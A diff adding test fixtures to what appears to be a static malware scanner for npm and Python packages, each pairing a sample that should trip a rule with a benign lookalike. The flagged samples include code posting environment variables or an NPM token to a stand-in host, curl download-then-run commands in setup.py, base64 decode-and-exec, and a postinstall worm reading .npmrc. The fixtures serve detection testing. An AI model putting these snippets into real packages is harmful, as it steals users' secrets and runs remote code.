@@ -212,6 +212,41 @@ CASES = [
     ("STATIC-JS-ENV-EXFIL",
      js({"index.js": "const axios = require('axios');\naxios.post('https://collect.example/e', JSON.stringify(process.env));\n"}),
      js({"index.js": "const {spawn} = require('child_process');\nspawn('node', ['x.js'], {env: {...process.env, FORCE_COLOR: '1'}});\n"})),
+    # a copy of the environment handed to a child process, in a CLI that also fetches
+    # (@n24q02m/mnemo-plugin); a GitHub token read by an API client (@docker/actions-toolkit);
+    # the copy sent through a variable, or a token in the body, is exfiltration
+    ("STATIC-JS-ENV-EXFIL",
+     js({"index.js": "const axios = require('axios');\nconst e = {...process.env};\nconst host = 'https://collect.example/e';\n"
+                     "axios.post(host, e);\n"}),
+     js({"index.js": "const { spawn } = require('child_process');\nasync function memories() {\n"
+                     "  const child = spawn('uvx', ['mnemo-mcp'], { env: { ...process.env, LOG_LEVEL: 'WARNING' } });\n"
+                     "  return child;\n}\nconsole.error('Install uv: https://docs.astral.sh/uv/');\n"
+                     "fetch('https://api.example.com/v1/ping');\n"})),
+    ("STATIC-JS-ENV-EXFIL",
+     js({"index.js": "fetch('https://collect.example/t', {method: 'POST', body: JSON.stringify({t: process.env.NPM_TOKEN})});\n"}),
+     js({"index.js": "class GitHub {\n  constructor(opts) {\n    this.githubToken = opts?.token || process.env.GITHUB_TOKEN;\n  }\n"
+                     "  async releases() {\n    return fetch('https://api.github.com/repos/docker/buildx/releases', "
+                     "{ headers: { authorization: `token ${this.githubToken}` } });\n  }\n}\nmodule.exports = GitHub;\n"})),
+    # a CLI that installs a tool with its official installer when its user asks (zcf): only the
+    # on-call rule, not the install/import one; the same command in setup.py is the latter
+    ("STATIC-SHELL-DOWNLOAD-THEN-RUN-ON-CALL",
+     js({"index.js": "module.exports = require('./dist/cli.js');\n",
+         "dist/cli.js": "const { execSync } = require('child_process');\nexports.install = () => execSync("
+                        "'curl -fsSL https://tool.example/install.sh -o install.sh && sh install.sh');\n"}),
+     js({"index.js": "module.exports = require('./dist/cli.js');\n",
+         "dist/cli.js": "const { execSync } = require('child_process');\nexports.fetchLib = () => execSync("
+                        "'curl -L https://files.example/lib.tar.gz -o lib.tar.gz && tar xzf lib.tar.gz');\n"})),
+    ("STATIC-SHELL-DOWNLOAD-THEN-RUN",
+     py(setup_py("import subprocess\nsubprocess.run(['cmd', '/c', 'curl -fsSL https://tool.example/install.cmd -o install.cmd && install.cmd'])\n")),
+     py(module("import subprocess\ndef install_claude():\n    subprocess.run(['cmd', '/c', "
+               "'curl -fsSL https://tool.example/install.cmd -o install.cmd && install.cmd && del install.cmd'])\n"))),
+    # a template of code run in a remote sandbox, its payload a placeholder (better-rlm); the
+    # same lines with a blob in place of the placeholder decode and run that blob
+    ("STATIC-PY-DECODE-EXEC-VAR",
+     py(module('import base64, io\ncode = base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=").decode()\nbuf = io.StringIO()\n'
+               'exec(code, {}, {})\n')),
+     py(module('SCAFFOLD = f"""\nimport base64, io\ncode = base64.b64decode("{code_b64}").decode()\nbuf = io.StringIO()\n'
+               'exec(code, {{}}, {{}})\n"""\n'))),
     ("STATIC-NPM-WORM-PUBLISH",
      js({"index.js": "", "install.js": "const {execSync} = require('child_process');\nconst t = require('fs').readFileSync(home + '/.npmrc');\n"
                      "execSync('npm publish --access public');\n"}, scripts={"postinstall": "node install.js"}),
